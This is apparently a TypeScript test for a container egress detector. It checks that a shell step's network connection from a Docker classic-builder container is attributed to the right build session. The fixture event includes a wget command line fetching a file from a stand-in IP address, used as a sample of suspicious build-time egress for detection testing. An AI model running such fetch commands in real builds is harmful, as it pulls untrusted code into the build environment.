// Classic-builder steps without image metadata: which open docker build a `sh -c` container
// belongs to.
import assert from 'node:assert/strict';
import { attribute } from '../src/detect/attribution.js';
import { classifyEgress } from '../src/detect/classify.js';
import type { FalcoEvent } from '../src/model/event.js';
import { sessionRecord } from './support/records.js';

const T = 1_772_446_500_000;
const step = (): FalcoEvent => ({
  timeNs: BigInt(T + 120_000) * 1_000_000n,
  rule: 'r',
  priority: 'Notice',
  source: 'syscall',
  hostname: 'node-a',
  tags: ['t1612_egress'],
  output: 'o',
  fields: {
    'fd.sip': '203.0.113.1',
    'container.id': '0123456789ab',
    'proc.name': 'sh',
    'proc.pname': 'containerd-shim',
    'proc.cmdline': 'sh -c wget -q http://203.0.113.1/x',
  },
});

describe('attribution: classic-builder step containers', () => {
  it('gives a step container to the newest-started docker build, not the most recently active one', () => {
    const sig = classifyEgress(step(), 'node-a')!;
    assert.equal(sig.classicCandidate, true);
    const older = sessionRecord({ id: 'older', host: 'node-a', startedAt: T, lastActivity: T + 110_000, engine: 'docker' });
    const newer = sessionRecord({ id: 'newer', host: 'node-a', startedAt: T + 60_000, lastActivity: T + 70_000, engine: 'docker' });
    const opts = { windowOnly: false, builderEgress: true, clockSkewMs: 30_000 };
    const got = attribute(sig, [older, newer], opts, { startedAt: T + 100_000 });
    assert.equal(got?.session.id, 'newer');
    assert.equal(got?.kind, 'lineage');
    // A build with BuildKit steps of its own, or known to be BuildKit, runs no classic steps.
    const withSteps = sessionRecord({ id: 'steps', host: 'node-a', startedAt: T + 90_000, engine: 'docker', cgroups: ['buildkit:x5hq3bq0fxk8sd7wqglx1dz3m'] });
    const buildkit = sessionRecord({ id: 'buildkit', host: 'node-a', startedAt: T + 95_000, engine: 'docker', dockerBuilder: 'buildkit' });
    assert.equal(attribute(sig, [withSteps, buildkit, older, newer], opts, { startedAt: T + 100_000 })?.session.id, 'newer');
    // A container that started before the newer build is the older build's.
    assert.equal(attribute(sig, [older, newer], opts, { startedAt: T + 10_000 })?.session.id, 'older');
  });
});
